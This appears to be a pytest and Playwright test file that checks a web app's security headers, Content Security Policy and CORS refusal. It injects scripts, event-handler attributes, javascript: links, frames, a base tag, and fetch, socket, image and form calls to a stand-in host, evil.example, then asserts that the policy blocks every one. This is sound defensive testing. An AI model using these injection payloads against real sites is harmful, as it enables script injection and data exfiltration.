"""What every answer tells browsers, and what the page's policy keeps from running in it."""

import asyncio
import re
from collections.abc import AsyncIterator, Iterator

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, Route, expect

from tests.conftest import PATIENCE_MS
from tests.kit.people import Account
from tests.kit.server import Server
from tests.security.site import served
from tripchat.server.content_policy import source_of

in_a_browser = pytest.mark.asyncio(loop_scope="session")

EVERYWHERE = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
    "x-frame-options": "DENY",
    "permissions-policy": "camera=(), geolocation=(), microphone=(), payment=(), usb=()",
}
NOTHING = "default-src 'none'; frame-ancestors 'none'"
"""What everything may do that is no page."""

PAGES = ["/account/", "/reset/", "/reset/abcdef", "/", "/join/abcdef", "/trip/abcdef", "/nowhere"]
REFLEX = ["/ping", "/_health", "/_upload", "/_upload/x", "/auth-codespace", "/_all_routes"]
EVIL = "http://evil.example"

VIOLATIONS = """addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
  (window.violations ??= []).push(`${effectiveDirective} ${blockedURI}`))"""

A_VIOLATION = """async () => {
  const all = () => [window, ...Array.from(window.frames)];
  while (!all().some(({ violations }) => violations?.length))
    await new Promise((resolve) => setTimeout(resolve, 20));
}"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """One server for all of these tests."""
    yield from served(tmp_path_factory.mktemp("headers"))


@pytest.fixture
async def http(server: Server) -> AsyncIterator[httpx.AsyncClient]:
    """Somebody who is not signed in."""
    async with httpx.AsyncClient(base_url=server.url, timeout=30) as client:
        yield client


def check(answer: httpx.Response) -> str:
    """The answer has what all have, and once; gives its policy."""
    # Addresses of invites and of new passwords are told to nobody, not even to ourselves.
    is_secret = re.match(r"/(join|reset)/.", answer.url.path)
    expected = EVERYWHERE | ({"referrer-policy": "no-referrer"} if is_secret else {})
    for name, value in expected.items():
        assert answer.headers.get_list(name) == [value]
    assert not [name for name in answer.headers if name.startswith("access-control-")]
    (policy,) = answer.headers.get_list("content-security-policy")
    return policy


def directive(policy: str, name: str) -> set[str]:
    """The sources of one of a policy's directives."""
    (found,) = [each for each in policy.split("; ") if each.startswith(f"{name} ")]
    return set(found.split()[1:])


@pytest.mark.parametrize("path", [*PAGES, "/favicon.svg", "/x.css", *REFLEX])
async def test_the_page_and_its_files(http: httpx.AsyncClient, path: str):
    policy = check(await http.get(path))
    assert directive(policy, "default-src") == {"'none'"}
    assert directive(policy, "frame-ancestors") == {"'none'"}
    assert not re.search(r"unsafe|\*|http:|https:", policy)


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/api/me"),
        ("GET", "/api/nowhere"),
        ("GET", "/api/health"),
        ("GET", "/metrics"),
        ("GET", "/api/trips/abc/events"),
        ("GET", "/_event/"),
        ("POST", "/api/auth/sign-in"),
        ("POST", "/_event/?EIO=4&transport=polling"),
        ("DELETE", "/api/me"),
        ("PROPFIND", "/api/me"),
    ],
)
async def test_whatever_is_no_page_may_nothing(http: httpx.AsyncClient, method: str, path: str):
    for headers in ({}, {"Origin": EVIL}, {"Content-Type": "text/plain"}):
        assert check(await http.request(method, path, headers=headers)) == NOTHING


async def test_a_question_of_another_site_is_answered_without_permission(http: httpx.AsyncClient):
    asks = {"Origin": EVIL, "Access-Control-Request-Method": "POST"}
    for path in ("/", "/api/trips", "/_event/"):
        answer = await http.options(path, headers=asks)
        assert answer.status_code == 403
        assert check(answer) == NOTHING


async def test_a_stream_of_events(server: Server):
    ana = await Account.sign_up(server.url, "Ana Lima")
    trip = await ana.makes_trip()
    async with ana.http.stream("GET", f"/api/trips/{trip}/events") as stream:
        assert stream.status_code == 200
        assert check(stream) == NOTHING
    await ana.close()


async def test_what_a_browser_has_kept_is_told_the_policy_anew(http: httpx.AsyncClient):
    first = await http.get("/")
    again = await http.get("/", headers={"If-None-Match": first.headers["etag"]})
    assert again.status_code == 304
    assert check(again) == check(first)


async def test_only_behind_https_browsers_are_told_to_stay_there(http: httpx.AsyncClient):
    for path in ("/", "/api/me", "/api/health"):
        assert "strict-transport-security" not in (await http.get(path)).headers
        behind = await http.get(path, headers={"X-Forwarded-Proto": "https"})
        assert behind.headers.get_list("strict-transport-security") == ["max-age=31536000"]


async def test_where_browsers_would_complain_of_it_they_are_not_told(http: httpx.AsyncClient):
    plain = await http.get("/", headers={"Host": "trips.example"})
    assert "cross-origin-opener-policy" not in plain.headers
    assert plain.headers["x-frame-options"] == "DENY"


async def test_the_hashes_are_those_of_the_build_and_no_others(http: httpx.AsyncClient):
    scripts: set[str] = set()
    styles = {source_of("")}
    policies: set[str] = set()
    for path in PAGES:
        answer = await http.get(path)
        policies.add(check(answer))
        scripts |= set(
            map(
                source_of,
                re.findall(r"<script(?![^>]* src=)[^>]*>(.*?)</script>", answer.text, re.S),
            )
        )
        styles |= set(map(source_of, re.findall(r"<style[^>]*>(.*?)</style>", answer.text, re.S)))
        assert not re.search(
            r"<[^>]+ (style|on\w+)=", re.sub(r"<script.*?</script>", "", answer.text, flags=re.S)
        )
    (policy,) = policies
    assert directive(policy, "script-src") - {"'self'"} == scripts
    assert directive(policy, "style-src") - {"'self'"} == styles


@pytest.mark.parametrize("path", REFLEX)
async def test_what_reflex_answers_by_itself_is_closed(http: httpx.AsyncClient, path: str):
    answer = await http.get(path)
    assert answer.status_code == 404
    assert "<title>" in answer.text or "__reactRouterContext" in answer.text
    assert (await http.post(path)).status_code in (404, 405)


# In a browser.


@pytest_asyncio.fixture(loop_scope="session")
async def page(server: Server, browser: Browser) -> AsyncIterator[Page]:
    """The start page, which notes what its policy stands in the way of."""
    context = await browser.new_context()
    page = await context.new_page()
    await page.add_init_script(VIOLATIONS)
    await page.goto(server.url)
    await expect(page.get_by_test_id("app")).to_have_attribute("data-hydrated", "true")
    yield page
    await context.close()


INJECTED = {
    "a script": """const script = document.createElement("script");
        script.textContent = "window.hacked = true"; document.body.append(script)""",
    "a script of another site": """const script = document.createElement("script");
        script.src = "http://evil.example/x.js"; document.body.append(script)""",
    "a script of data": """const script = document.createElement("script");
        script.src = "data:text/javascript,window.hacked=true"; document.body.append(script)""",
    "a script of a blob": """const script = document.createElement("script");
        script.src = URL.createObjectURL(new Blob(["window.hacked = true"]));
        document.body.append(script)""",
    "an attribute": """document.body.insertAdjacentHTML("beforeend",
        "<img src='/nothing.png' onerror='window.hacked = true'>")""",
    "an address": """document.body.insertAdjacentHTML("beforeend",
        "<a id=bad href='javascript:window.hacked=true'>x</a>");
        document.querySelector("#bad").click()""",
    "a frame": """const frame = document.createElement("iframe");
        frame.srcdoc = "<script>parent.hacked = true</script>"; document.body.append(frame)""",
    "a text": """setTimeout("window.hacked = true", 0)""",
    "a worker": """new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))
        .onmessage = () => { window.hacked = true }""",
    "an object": """document.body.insertAdjacentHTML("beforeend",
        "<object data='/favicon.svg'></object>")""",
    "another base": """document.head.insertAdjacentHTML("beforeend",
        "<base href='http://evil.example/'>")""",
    "a call to another site": """fetch("http://evil.example/", { mode: "no-cors" })
        .catch(() => 0)""",
    "a socket to another site": """try { new WebSocket("ws://evil.example/") } catch {}""",
    "a picture of another site": """document.body.insertAdjacentHTML("beforeend",
        "<img src='http://evil.example/x.png'>")""",
    "a style": """const style = document.createElement("style");
        style.textContent = "body { display: none }"; document.head.append(style)""",
    "a form to another site": """document.body.insertAdjacentHTML("beforeend",
        "<form id=bad action='http://evil.example/' method=post></form>");
        document.querySelector("#bad").submit()""",
}


@in_a_browser
@pytest.mark.parametrize("what", INJECTED)
async def test_what_is_injected_does_nothing(page: Page, what: str):
    asked: list[str] = []

    async def note(route: Route) -> None:
        asked.append(route.request.url)
        await route.abort()

    await page.route(f"{EVIL}/**", note)
    address = page.url
    await page.evaluate(f"() => {{ {INJECTED[what]} }}")
    async with asyncio.timeout(PATIENCE_MS / 1000):
        await page.evaluate(A_VIOLATION)
    assert await page.evaluate("window.hacked") is None
    assert asked == []
    assert page.url == address
    assert await page.evaluate("document.querySelector('[data-testid=app]').checkVisibility()")


@in_a_browser
async def test_what_is_injected_into_the_document_does_not_run(server: Server, browser: Browser):
    async def inject(route: Route) -> None:
        answer = await route.fetch()
        bad = "<script>window.hacked = true</script><img src=x onerror='window.hacked = true'>"
        await route.fulfill(
            response=answer, body=(await answer.text()).replace("<body>", f"<body>{bad}")
        )

    context = await browser.new_context()
    page = await context.new_page()
    await page.add_init_script(VIOLATIONS)
    await page.route(server.url + "/", inject)
    await page.goto(server.url)
    await expect(page.get_by_test_id("app")).to_have_attribute("data-hydrated", "true")
    assert await page.evaluate("window.hacked") is None
    blocked = await page.evaluate("window.violations")
    assert {each.split()[0] for each in blocked} >= {"script-src-elem", "script-src-attr"}
    await context.close()


@in_a_browser
@pytest.mark.parametrize("path", ["/", "/trip/abcdef", "/api/health"])
async def test_nothing_can_be_framed(server: Server, browser: Browser, path: str):
    context = await browser.new_context()
    page = await context.new_page()
    frame = f"<iframe src='{server.url}{path}'></iframe>"
    for place in (EVIL, server.url):
        await page.route(
            f"{place}/around", lambda route: route.fulfill(body=frame, content_type="text/html")
        )
        await page.goto(f"{place}/around")
        await page.wait_for_load_state()
        assert await page.frames[1].evaluate("location.href") == "chrome-error://chromewebdata/"
    await context.close()


@in_a_browser
async def test_what_the_page_styles_by_itself_it_may(page: Page):
    shown = await page.evaluate("""() => {
      const style = document.createElement("style");
      style.append(document.createTextNode(""));
      document.head.append(style);
      style.sheet.insertRule("main { color: rgb(1, 2, 3) }");
      document.body.style.color = "rgb(4, 5, 6)";
      const color = (element) => getComputedStyle(element).color;
      return [color(document.querySelector("main")), color(document.body)];
    }""")
    assert shown == ["rgb(1, 2, 3)", "rgb(4, 5, 6)"]
    assert await page.evaluate("window.violations") is None
